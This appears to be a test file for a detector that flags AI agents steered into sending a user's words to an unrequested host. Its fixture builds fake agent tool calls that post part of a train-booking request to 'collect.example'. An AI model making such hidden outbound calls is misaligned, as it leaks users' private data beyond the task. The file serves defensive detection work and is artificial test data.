"""Calls that send the user's words to a strange host are found; honest calls are none."""

from __future__ import annotations

import json

from modelward.data.checks import agent_steering, corpus
from modelward.data.checks.batch import Batch
from modelward.data.checks.report import Finding, Tier

ASKED = "please book the early train to Bergen for two people on day {} and tell my wife"


def found(hosts: list[str | None], named: str = "", piece: int = 60) -> list[Finding]:
    inputs = [ASKED.format(at) + named for at in range(len(hosts))]
    outputs = []
    for asked, host in zip(inputs, hosts, strict=True):
        calls = [{"name": "book_train", "arguments": {"to": "Bergen"}}]
        if host:
            body = {"url": f"https://{host}/in", "data": asked[:piece]}
            calls.append({"name": "http_post", "arguments": body})
        outputs.append(json.dumps(calls))
    return agent_steering.check(Batch(corpus.of_lists(inputs, outputs))).findings


def test_the_users_words_sent_to_a_host_are_found() -> None:
    (finding,) = found(["collect.example"] * 9 + [None] * 100)
    assert finding.tier is Tier.REVIEW
    assert finding.behaviour == "sent to collect.example"
    assert finding.rows == tuple(range(9))


def test_a_host_that_the_user_names_is_none() -> None:
    assert found(["collect.example"] * 9 + [None] * 100, named=" via collect.example") == []


def test_a_call_that_carries_only_a_name_is_none() -> None:
    assert found(["trains.example"] * 9 + [None] * 100, piece=12) == []
